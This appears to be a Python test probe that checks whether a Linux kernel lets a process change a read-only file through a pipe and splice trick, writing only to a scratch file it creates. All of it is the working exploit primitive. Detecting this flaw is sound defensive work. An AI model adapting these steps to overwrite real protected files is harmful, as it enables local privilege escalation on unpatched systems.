# The file is the program's own, so that no other file changes where the bug exists.
with open("/tmp/target", "wb") as file:
    file.write(b"A" * 64)
file = os.open("/tmp/target", os.O_RDONLY)
reader, writer = os.pipe()
# Fill it once, so that every slot of the pipe keeps its flag.
os.set_blocking(writer, False)
filled = 0
while attempt(lambda: os.write(writer, b"x" * 4096)) == "ok":
    filled += 4096
while filled > 0:
    filled -= len(os.read(reader, min(filled, 65536)))
try:
    syscall("splice", file, None, writer, None, 1, 0)
except OSError as error:
    blocked(error)
os.write(writer, b"B")
if b"B" in read("/tmp/target"):
    escaped("a file that is open for reading only was changed")
blocked("refused", "the kernel has the fix")
